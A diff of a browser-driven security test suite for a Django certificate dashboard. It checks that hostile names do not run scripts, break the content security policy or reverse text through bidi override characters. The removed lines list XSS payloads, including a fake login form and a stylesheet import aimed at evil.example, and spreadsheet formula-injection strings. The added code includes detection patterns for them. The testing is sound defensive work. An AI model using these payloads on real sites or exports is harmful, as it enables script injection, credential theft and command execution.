@@ -1,181 +1,342 @@
-"""Whatever the vendor sends, no page of a real browser runs it, breaks the policy or turns its own words around."""
+"""Whatever somebody is called, no page of a real browser runs it, breaks the policy or turns its own words around."""
 
-import csv
-import json
-from datetime import timedelta
-from urllib.parse import urlencode
+import re
+from urllib.parse import unquote, urlsplit
 
 import pytest
 from django.conf import settings
 from django.test import Client
+from django.urls import resolve
 
-from certdash.audit import note
-from certdash.models import AuditKind, Change, Grant, Rejection, Role, Team, User
-from tests import world
-from tests.world import NOW, make_certificate, make_group, make_learner, make_run, make_story, make_view
+from certdash.falkor.errors import RefusedRequest
+from certdash.invitations import password_link
+from certdash.links import apart
+from certdash.models import User
+from tests import hostile, test_oidc, world
+from tests.hostile import evil, quoted
+from tests.test_access import _ONLY_POST, GET
+from tests.test_posts import ELSEWHERE, FORMS
 
-SCRIPTS = [
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg/onload=alert(1)>",
-    "</title></textarea></script><script>prompt(1)</script>",
-    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
-    "javascript:alert(1)",
-    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
-    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
-    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
-    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button>Log in</button>",
-    '<a hx-get="/apps/demo/" hx-trigger="load" hx-on::load="confirm(1)">x</a>',
-    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
-    "\u202egpj.exe\u202c \u2066\u2067\u2068",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "a\u2028b\u2029c\x0b\x1b[31m",
-]
-LINKS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
-         "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x", "https://a@evil.example/",
-         'https://vendor.example/"onclick="alert(1)', "https://vendor.example/<script>"]  # fmt: skip
 # Runs before any script of the page: what fires is counted, whichever way it was reached.
 HOOKS = """
 window.fired = [];
 for (const name of ["alert", "prompt", "confirm", "print"]) window[name] = (...said) => window.fired.push(name + said);
 document.addEventListener("securitypolicyviolation", event => window.fired.push("policy: " + event.violatedDirective));
 """
+# Mouse and focus on everything, as somebody could do it.
+TOUCH = """document.querySelectorAll('*').forEach(each => {
+    each.focus?.(); each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); })"""
+# What a page must not hold: addresses of other kinds, and what names could have become.
+LOOK = """() => {
+    const links = [...document.querySelectorAll('[href], [action], [src]')];
+    const odd = links.map(one => one.href ?? one.action ?? one.src)
+        .filter(one => typeof one === 'string' && !/^https?:/.test(one));
+    const made = document.querySelectorAll('iframe, object, embed, style, base, [onerror], [onload], [onfocus],'
+        + ' [onmouseover], [onclick], [hx-on], form[action*="evil.example"], [src*="evil.example"]');
+    return [...window.fired, ...odd, ...[...made].map(one => one.outerHTML)];
+}"""
+# Texts in which words of ours stand behind a name that turns what follows it: everything in one paragraph is put in
+# line, and what a name has opened must be closed when another letter than of a name follows. Names end in Greek.
+TURNED = r"""names => {
+    const ends = {'\u202c': /[\u202a\u202b\u202d\u202e]/, '\u2069': /[\u2066-\u2068]/};
+    const isTurned = text => {
+        const open = [];
+        let ended = false;
+        for (const sign of names.reduce((one, name) => one.replaceAll(name, '\u202e\u03c9'), text)) {
+            if (/[\u202a\u202b\u202d\u202e\u2066-\u2068]/.test(sign)) open.push(sign);
+            else if (sign in ends) {
+                const at = open.findLastIndex(one => ends[sign].test(one));
+                if (at >= 0) open.length = sign === '\u2069' ? at : open.length - 1;
+                ended &&= open.length > 0;
+            } else if (/[\u03b1-\u03c9]/.test(sign)) ended = true;
+            else if (sign === '\n') open.length = 0;
+            else if (!/[\p{L}\p{N}\ufffc]/u.test(sign)) continue;
+            else if (ended && open.length) return true;
+            else ended = false;
+        }
+        return false;
+    };
+    const stands = each => {
+        const style = getComputedStyle(each);
+        return !['inline', 'contents'].includes(style.display) || /isolate|plaintext/.test(style.unicodeBidi);
+    };
+    const lines = new Map([[document.head, document.title]]);
+    const add = (each, text) => {
+        while (!stands(each) && each.parentElement) each = each.parentElement;
+        if (!getComputedStyle(each).whiteSpace.startsWith('pre')) text = text.replaceAll('\n', ' ');
+        lines.set(each, (lines.get(each) ?? '') + text);
+    };
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
+    while (walker.nextNode()) {
+        const node = walker.currentNode;
+        if (node.nodeType === Node.TEXT_NODE) add(node.parentElement, node.data);
+        else if (stands(node) && node.parentElement && node.tagName !== 'BR') add(node.parentElement, '\ufffc');
+        for (const name of ['title', 'aria-label']) {
+            const said = node.getAttribute?.(name);
+            if (said) lines.set({outerHTML: `${name}: ${said}`}, said);
+        }
+    }
+    return [...lines].filter(([_, text]) => isTurned(text)).map(([each, _]) => each.outerHTML.slice(0, 400));
+}"""
+NAMES = [evil(number) for number in range(hostile.MANY)]
+NOT_WALKED = {
+    **{name: "answers a POST alone" for name, statuses in GET.items() if statuses == _ONLY_POST},
+    "healthz": "two letters of text",
+    "readyz": "two letters of text",
+}
+WITHOUT_LOG_IN = {
+    "account_login": [
+        f"/accounts/login/?next=/certificates/%3Fq={quoted(evil(0))}",
+        f"/accounts/login/?next={quoted(evil(5))}",
+    ],
+    "password_forgotten": ["/accounts/password/forgotten/"],
+    "set_password": ["/accounts/set-password/MQ/abcdef-0123456789/"],
+    "single_sign_on": [f"/accounts/sso/?next=/{quoted(evil(0))}"],
+    "openid_connect_callback": [f"/accounts/sso/callback/?error={quoted(evil(0))}&error_description={quoted(evil(1))}"],
+}
 
 
 @pytest.fixture
-def hostile(live_server, transactional_db):
-    """An app in which everything that the vendor can send is an attack."""
-    cast = world.make_cast()
-    run = make_run(cast.demo, "held", message=SCRIPTS[0], vendor_hash=SCRIPTS[1], story=SCRIPTS[2], users=SCRIPTS[:2])
-    for number, evil in enumerate(SCRIPTS):
-        story = make_story(cast.demo, evil, f"{number}{evil}"[:100], evil[:50])
-        learner = make_learner(cast.demo, evil, evil, f"{number}{evil}"[:200])
-        certificate = make_certificate(
-            story, learner, firstname=evil, lastname=evil, email=f"{number}{evil}"[:200], telephone=evil[:50],
-            country=evil[:100], city=evil[:100], url=LINKS[number % len(LINKS)], missing_in=run,
-            state=("delivered", "pending", evil[:50])[number % 3], at=NOW - timedelta(days=number),
-        )  # fmt: skip
-        make_group(cast.demo, f"{number} {evil}"[:200], learner)
-        Change.objects.create(
-            app=cast.demo, run=run, story=story, certificate=certificate, kind="link", seen_at=NOW,
-            before={"url": evil}, after={"url": LINKS[number % len(LINKS)]},
-        )  # fmt: skip
-        Rejection.objects.create(run=run, path=evil, reason=evil)
-    note(AuditKind.TEAM, cast.demo, cast.owner, team=SCRIPTS[0], change=SCRIPTS[1])
-    cast.owner.is_superuser = True  # who sees the pages of people and teams as well
-    cast.team = Team.objects.create(name=SCRIPTS[0])
-    cast.team.members.add(User.objects.create_user(SCRIPTS[7][:100], first_name=SCRIPTS[3], last_name=SCRIPTS[12]))
-    Grant.objects.create(app=cast.demo, team=cast.team, role=Role.VIEWER)
-    for evil in SCRIPTS:
-        view = make_view(cast.viewer, evil[:100], "/certificates/", urlencode([("q", evil), (evil, evil)]), cast.demo)
-        view.pinned_by.add(cast.owner)
-    cast.views = [view, make_view(cast.owner, SCRIPTS[0], "/stories/", urlencode([("sort", SCRIPTS[1])]), cast.demo)]
-    cast.viewer.first_name, cast.viewer.last_name = SCRIPTS[0], SCRIPTS[12]
-    cast.viewer.save()
-    cast.demo.name = cast.owner.first_name = SCRIPTS[1]
-    cast.demo.save(), cast.owner.save()
-    cast.url, cast.run = live_server.url, run
+def cast(transactional_db, live_server, settings):
+    cast = hostile.make_hostile_cast()
+    cast.url = live_server.url
+    settings.SENDS_MAIL = True
     return cast
 
 
-@pytest.fixture
-def client_of_owner(hostile):
-    client = Client()
-    client.force_login(hostile.owner)
-    return client
+class Walk:
+    """One page of a browser, and all that went wrong on what it opened."""
+
+    def __init__(self, page, expect, url):
+        self.page, self.expect, self.url, self.wrong = page, expect, url, {}
+        page.context.add_init_script(HOOKS)
+
+    def log_in(self, person):
+        client = Client()
+        client.force_login(person)
+        name = settings.SESSION_COOKIE_NAME
+        self.page.context.add_cookies([{"name": name, "value": client.cookies[name].value, "url": self.url}])
+
+    def open(self, path):
+        self.page.goto(self.url + path)
+        self.look(path)
+
+    def send(self, path, /, **fields):
+        """Sends a form with these fields from the page that is open."""
+        with self.page.expect_navigation():
+            self.page.evaluate(
+                """([path, fields]) => {
+                    const form = document.createElement('form'), token = document.querySelector('[hx-headers]');
+                    fields.csrfmiddlewaretoken ??= JSON.parse(token.getAttribute('hx-headers'))['X-CSRFToken'];
+                    Object.assign(form, {method: 'post', action: path});
+                    for (const [name, value] of Object.entries(fields)) {
+                        const field = document.createElement('textarea');
+                        Object.assign(field, {name, value});
+                        form.append(field);
+                    }
+                    document.body.append(form);
+                    form.submit();
+                }""",
+                [path, fields],
+            )
+        self.look(f"POST {path}")
+
+    def look(self, path):
+        self.expect(self.page.locator("#facets .counting")).to_have_count(0)  # counts come after the page
+        self.page.evaluate(TOUCH)
+        wrong = [*self.page.evaluate(LOOK), *(f"turned: {text}" for text in self.page.evaluate(TURNED, NAMES))]
+        if not self.page.url.startswith(self.url):
+            wrong.append(f"went to {self.page.url}")
+        if wrong:
+            self.wrong[path] = wrong
+
+    @property
+    def report(self):
+        """What is wrong, each where it was seen first."""
+        return "\n".join(f"{path}\n  " + "\n  ".join(wrong) for path, wrong in self.wrong.items())
 
 
 @pytest.fixture
-def walk(open_page, hostile, client_of_owner):
-    """Opens a page of the owner's, and gives it with all that fired on it, mouse and focus on everything included."""
-    page = open_page()
-    cookie = client_of_owner.cookies[settings.SESSION_COOKIE_NAME].value
-    page.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": hostile.url}])
-    page.context.add_init_script(HOOKS)
-
-    def walk(path):
-        page.goto(hostile.url + path)
-        page.wait_for_load_state("networkidle")
-        page.evaluate(
-            "document.querySelectorAll('*').forEach(each => { each.focus?.();"
-            " each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); })"
-        )
-        return page, page.evaluate("window.fired")
-
-    return walk
+def walk(page, expect, cast, page_problems):
+    walk = Walk(page, expect, cast.url)
+    walk.log_in(cast.owner)
+    yield walk
+    # A page that is not there, or refuses, is told as an error by the browser: these are among those that are walked.
+    page_problems[:] = [one for one in page_problems if not re.search(r"status of 4\d\d", one)]
 
 
-def addresses(cast):
-    stories, groups = cast.demo.stories.order_by("pk"), cast.demo.groups.order_by("pk")
-    learners = cast.demo.learners.order_by("pk")
-    run = f"/apps/demo/runs/{cast.run.pk}/"
+def test_every_page_that_can_be_opened_is_walked(db):
+    walked = {*hostile.addresses(hostile.make_hostile_cast()), *WITHOUT_LOG_IN}
+    assert (walked & {*NOT_WALKED}, walked | {*NOT_WALKED}) == (set(), {*GET})
+
+
+def test_nothing_that_somebody_is_called_runs_on_any_page_or_turns_its_words(walk, cast):
+    for paths in hostile.addresses(cast).values():
+        for path in paths:
+            walk.open(path)
+    walk.open(f"/{quoted(evil(0))}/")
+    assert not walk.wrong, walk.report
+
+
+def test_nor_before_the_log_in(walk, cast, provider, settings):
+    test_oidc.configure(settings, "http://127.0.0.1:9")
+    walk.page.context.clear_cookies()
+    for paths in WITHOUT_LOG_IN.values():
+        for path in paths:
+            walk.open(path)
+    walk.open("/accounts/login/")
+    walk.send("/accounts/login/", login=evil(0), password=evil(1))
+    walk.send("/accounts/password/forgotten/", email=evil(0))
+    walk.send("/accounts/password/forgotten/", email="nobody@example.com")
+    walk.open(password_link(User.objects.get(username=evil(0))).removeprefix("http://127.0.0.1:8000"))
+    walk.send(walk.page.url, new_password1=evil(0), new_password2=evil(1))
+    walk.send("/accounts/login/", login=evil(0), csrfmiddlewaretoken=evil(1))
+    assert not walk.wrong, walk.report
+
+
+def test_nor_on_the_page_for_whose_address_somebody_has(walk, cast, provider, settings):
+    test_oidc.configure(settings, provider.url)
+    provider.person(
+        "hostile", email="viewer@example.com", email_verified=True, name=evil(0), preferred_username=evil(1)
+    )
+    walk.page.context.clear_cookies()
+    walk.page.route("**/*.css", lambda route: route.fulfill(body=""))  # of the provider, from somewhere else
+    walk.page.goto(f"{walk.url}/accounts/sso/")
+    walk.page.unroute_all()
+    walk.page.locator("[name=sub]").fill("hostile")
+    with walk.page.expect_navigation(url=f"{walk.url}/**"):
+        walk.page.locator("[name=sub]").press("Enter")
+    walk.look("409")
+    walk.expect(walk.page.locator("h1")).to_have_text("Another account has your e-mail address")
+    assert not walk.wrong, walk.report
+
+
+# -- What answers a form ----------------------------------------------------------------------------------------
+
+LONG = hostile.SCRIPTS[0] * 20
+NO_CHOICE = hostile.SCRIPTS[3]
+BAD_CONNECTION = {
+    "name": evil(0),
+    "base_url": evil(1),
+    "app_id": evil(2),
+    "refresh_minutes": NO_CHOICE,
+    "token": evil(4),
+}
+CONNECTION = {"name": evil(0), "base_url": "http://127.0.0.1:9", "app_id": evil(2), "refresh_minutes": "60"}
+
+
+def sent(cast):
+    """The forms that are sent, one after the other, each to its address; the last ones take away."""
+    at = {name: paths[0] for name, paths in hostile.addresses(cast).items()}
+    person, views = "/accounts/people", f"/views/{cast.owner.saved_views.get().slug}"
+    somebody, grant = User.objects.get(username=evil(7)), cast.demo.grants.get(user__username=evil(3))
+    viewer, mail = cast.viewer.pk, cast.viewer.email
+    shared = {"app": cast.demo.pk, "path": "/certificates/", "query": f"q=x&story={quoted(evil(3))}"}
     return [
-        "/", "/certificates/", "/stories/", "/groups/", "/people/", "/apps/", "/apps/demo/", "/apps/demo/connection/",
-        "/apps/demo/groups/", "/apps/demo/scope/", "/apps/demo/people/", "/apps/demo/runs/", "/apps/demo/audit/", run,
-        f"{run}changes/", f"{run}members/", "/apps/demo/privacy/", "/apps/demo/erasures/", "/accounts/people/",
-        f"/accounts/people/{cast.owner.pk}/", "/accounts/teams/", f"/accounts/teams/{cast.team.pk}/",
-        "/accounts/audit/", "/accounts/profile/", "/views/", *(f"/views/{one.slug}/delete/" for one in cast.views),
-        f"/views/{cast.views[1].slug}/edit/", *(f"/views/{one.slug}/" for one in cast.views),
-        f"/views/add/?path=/certificates/&query={_quoted(urlencode([(SCRIPTS[0], SCRIPTS[1])]))}",
-        f"/people/{learners[0].pk}/erase/", f"/people/{learners[1].pk}/erase/",
-        f"/stories/demo/{_quoted(SCRIPTS[0])}/",  # which of two of one name is meant
-        *(f"/stories/demo/{_quoted(one.key)}/" for one in stories[:6]),
-        *(f"/groups/demo/{_quoted(one.key)}/" for one in groups[:3]),
-        *(f"/people/{one.pk}/" for one in learners[:6]),
-        *(f"/certificates/?q={_quoted(evil)}&state={_quoted(evil)}&sort={_quoted(evil)}" for evil in SCRIPTS[:6]),
-        f"/certificates/?country={_quoted(SCRIPTS[1])}", f"/{_quoted(SCRIPTS[0])}/",
-    ]  # fmt: skip
+        (at["view_add"], {"name": evil(1), "path": "/certificates/", "query": "q=x"}),
+        (at["view_add"], {"name": LONG, "path": evil(0), "query": evil(1)}),
+        (at["view_add"], {"name": evil(2)} | shared),
+        (at["view_edit"], {"name": evil(1)}),
+        (at["view_edit"], {"name": evil(4)}),
+        (f"{views}/pin/", {"wanted": "1", "next": evil(5)}),
+        (f"{views}/home/", {"wanted": "1", "next": "/views/"}),
+        (at["view_delete"], {}),
+        (at["profile"], {"time_zone": evil(0)}),
+        ("/accounts/profile/time-zone/", {"time_zone": evil(0)}),
+        ("/accounts/table/", {"table": evil(0), "column": evil(1), "next": evil(5)}),
+        (at["account_change_password"], {"oldpassword": evil(0), "password1": evil(1)}),
+        (at["app_connection"], BAD_CONNECTION),
+        (at["app_connection"], CONNECTION | {"token": world.TOKEN}),
+        ("/apps/demo/test/", {}),
+        (at["app_groups"], {"names": LONG}),
+        (at["app_groups"], {"names": "\n".join(NAMES)}),
+        (at["app_scope"], {"breadth": NO_CHOICE, "stories": LONG * 9}),
+        (at["app_people"], {"login": evil(0), "role": NO_CHOICE}),
+        (at["app_people"], {"login": f"team:{evil(1)}", "role": "manager"}),
+        (at["app_people"], {"login": f"team:{LONG}", "role": "manager"}),
+        (f"/apps/demo/people/{grant.pk}/take-away/", {}),
+        (at["app_privacy"], {"telephones": NO_CHOICE}),
+        (at["app_privacy"], {"telephones": "off"}),
+        (at["app_erasures"], {"email": evil(0)}),
+        (at["app_erasures"], {"email": f"@{evil(0)}"}),
+        (at["erasure_lift"], {}),
+        (f"{at['run']}accept/", {}),
+        (f"{at['story']}refresh/", {}),
+        (f"{at['person']}refresh/", {}),
+        ("/apps/demo/sync/", {}),
+        (at["app_add"], BAD_CONNECTION),
+        (at["app_add"], CONNECTION | {"token": world.TOKEN, "untested": "1"}),
+        (at["account_add"], {"username": evil(0), "email": evil(0), "first_name": evil(1)}),
+        (f"{person}/{somebody.pk}/", {"username": evil(0), "email": evil(0)}),
+        (f"{person}/{viewer}/", {"username": "viewer", "email": mail, "last_name": evil(0)}),
+        (f"{person}/{viewer}/link/", {}),
+        (f"{person}/{somebody.pk}/link/", {}),
+        (f"{person}/{somebody.pk}/deactivate/", {}),
+        (f"{person}/{somebody.pk}/reactivate/", {}),
+        (at["team_add"], {"name": evil(0), "members": NO_CHOICE}),
+        (at["team_add"], {"name": f"x{evil(5)}"}),
+        (at["team"], {"name": evil(1), "members": NO_CHOICE}),
+        (at["team"], {"name": f"y{evil(0)}"}),
+        (f"{at['team']}delete/", {}),
+        (at["person_erase"], {}),
+    ]
 
 
-def _quoted(text):
-    return "".join(f"%{byte:02X}" for byte in text.replace("%", "%25").replace("/", "%2F").encode())
+def test_every_form_is_sent(db):
+    by_the_others = {"account_login", "password_forgotten", "set_password"}  # before the log-in, above
+    names = {resolve(unquote(urlsplit(path).path)).url_name for path, _ in sent(hostile.make_hostile_cast())}
+    assert names | by_the_others | {"account_logout"} == {*FORMS, *ELSEWHERE}
 
 
-def test_nothing_that_the_vendor_sends_runs_on_any_page(walk, hostile, page_problems):
-    for path in addresses(hostile):
-        page, fired = walk(path)
-        assert fired == [], path
-        assert page.url.startswith(hostile.url), path
-        hrefs = page.eval_on_selector_all("[href], [action], [src]", "all => all.map(e => e.href ?? e.action ?? e.src)")
-        odd = [one for one in hrefs if isinstance(one, str) and not one.startswith(("http://", "https://"))]
-        assert odd == [], path
-        assert page.locator("iframe, object, embed, style, [onerror], [onload], [onfocus], [hx-on]").count() == 0, path
-    page_problems[:] = [one for one in page_problems if "404" not in one]  # the address that leads nowhere
+def test_nor_on_a_page_that_answers_a_form(walk, cast, monkeypatch, settings):
+    settings.SENDS_MAIL = False  # links to passwords are then shown
+
+    def fails(_app):
+        raise RefusedRequest("The vendor refused", vendor_message=evil(0))
+
+    monkeypatch.setattr("certdash.views.apps.test_connection", fails)
+    walk.page.goto(f"{walk.url}/accounts/profile/")
+    for path, form in sent(cast):
+        walk.send(path, **{name: str(value) for name, value in form.items()})
+    walk.open("/apps/demo/")
+    walk.send("/apps/demo/sync/", csrfmiddlewaretoken=evil(0))
+    assert not walk.wrong, walk.report
+
+
+# -- The search itself ------------------------------------------------------------------------------------------
 
 
 def test_the_hooks_would_see_it(walk, page_problems):
-    page, fired = walk("/")
-    assert fired == []
-    page.evaluate("() => { alert(1); const it = document.createElement('script'); it.text = 'prompt(2)';"
-                  " document.body.append(it); }")  # fmt: skip
-    page.evaluate("() => new Promise(seen => { const look = () => window.fired.length > 1 ? seen()"
-                  " : setTimeout(look, 20); look(); })")  # fmt: skip
-    assert page.evaluate("window.fired") == ["alert1", "policy: script-src-elem"]
+    walk.open("/accounts/inactive/")
+    assert not walk.wrong, walk.report
+    walk.page.evaluate("() => { alert(1); const it = document.createElement('script'); it.text = 'prompt(2)';"
+                       " document.body.append(it); }")  # fmt: skip
+    walk.page.evaluate("() => new Promise(seen => { const look = () => window.fired.length > 1 ? seen()"
+                       " : setTimeout(look, 20); look(); })")  # fmt: skip
+    assert walk.page.evaluate("window.fired") == ["alert1", "policy: script-src-elem"]
     page_problems.clear()
 
 
-def test_names_are_isolated_from_the_words_around_them(walk, hostile):
-    page, _ = walk("/certificates/")
-    bare = page.evaluate("""() => [...document.querySelectorAll('td')].flatMap(cell => {
-        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT), found = [];
-        while (walker.nextNode()) if (walker.currentNode.data.includes('\\u202e')) found.push(walker.currentNode);
-        return found.filter(node => !['isolate', 'isolate-override', 'plaintext'].includes(
-            getComputedStyle(node.parentElement).unicodeBidi)).map(node => node.parentElement.outerHTML);
-    })""")
-    assert bare == []
+@pytest.mark.parametrize("name", ["Ana", "São Paulo 2", "東京"])
+def test_a_name_that_turns_nothing_carries_no_marks(name):
+    assert (apart(name), apart(f"{name}\u202e"), apart("عمر")) == (name, f"\u2068{name}\u202e\u2069", "\u2068عمر\u2069")
 
 
-def test_files_of_the_same_rows_open_again_and_hold_no_formula(client_of_owner, hostile):
-    for path in ("/certificates/", "/stories/", "/groups/", "/people/", f"/apps/demo/runs/{hostile.run.pk}/changes/"):
-        text = b"".join(client_of_owner.get(f"{path}?_export=csv")).decode("utf-8-sig")
-        head, *rows = csv.reader(text.splitlines(keepends=True)) if "\x0b" not in text else _read(text)
-        assert len(rows) == len(SCRIPTS), path
-        assert {len(row) for row in rows} == {len(head)}
-        assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r＝＋－＠")]
-        lines = b"".join(client_of_owner.get(f"{path}?_export=jsonl")).split(b"\n")
-        assert len([json.loads(line) for line in lines if line]) == len(SCRIPTS), path
-
-
-def _read(text):
-    return csv.reader(text.split("\r\n")[:-1])
+@pytest.mark.parametrize(
+    ("html", "turned"),
+    [
+        ("<p>Who: \u202eα</p>", False),
+        ("<p>\u202eα was here</p>", True),
+        ("<p><bdi>\u202eα</bdi> was here</p>", False),
+        ("<p><span>\u202eα</span> was here</p>", True),
+        ("<p>\u2068\u202eα\u2069 was here</p>", False),
+        ("<p>\u202eα\u202c was here</p>", False),
+        ("<p><a>\u202eα</a> <bdi>x</bdi></p>", True),
+        ("<p><bdi>\u202eα, and more</bdi></p>", True),
+        ("<p title='\u202eα, too'></p>", True),
+    ],
+)
+def test_words_that_are_turned_would_be_seen(html, turned, walk):
+    walk.open("/accounts/inactive/")
+    walk.page.evaluate("html => document.querySelector('main').insertAdjacentHTML('beforeend', html)", html)
+    assert bool(walk.page.evaluate(TURNED, NAMES)) == turned
